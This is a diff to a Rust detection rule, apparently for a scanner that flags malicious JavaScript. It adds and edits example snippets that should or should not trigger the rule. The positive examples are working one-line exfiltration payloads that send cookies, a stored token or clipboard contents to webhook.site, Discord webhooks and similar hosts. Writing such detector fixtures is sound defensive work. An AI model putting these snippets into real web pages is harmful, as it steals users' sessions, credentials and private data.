@@ -17,10 +17,12 @@ pub(super) const SIGNAL: Signal = Signal {
         with: &[
             "navigator.sendBeacon('https://webhook.site/a',document.cookie)",
             "fetch('https://discord.com/api/webhooks/1/a',{method:'POST',body:JSON.stringify({content:localStorage.token})})",
-            "async function c(){const t=await navigator.clipboard.readText();fetch('https://a.ngrok.io/?c='+t)}",
+            "async function c(){const t=await navigator.clipboard.readText();fetch('https://webhook.site/?c='+t)}",
+            "navigator.clipboard.readText().then(t=>fetch('https://webhook.site/?c='+t))",
         ],
         without: &[
             "fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(form)})",
+            "const cart=localStorage.getItem('cart');fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',body:JSON.stringify({chat_id:c,text:'Order '+cart+' phone '+phone.value})})",
             "localStorage.setItem('sent',1);fetch('https://hooks.slack.com/services/a',{method:'POST',body:JSON.stringify({text:'New order'})})",
         ],
     },
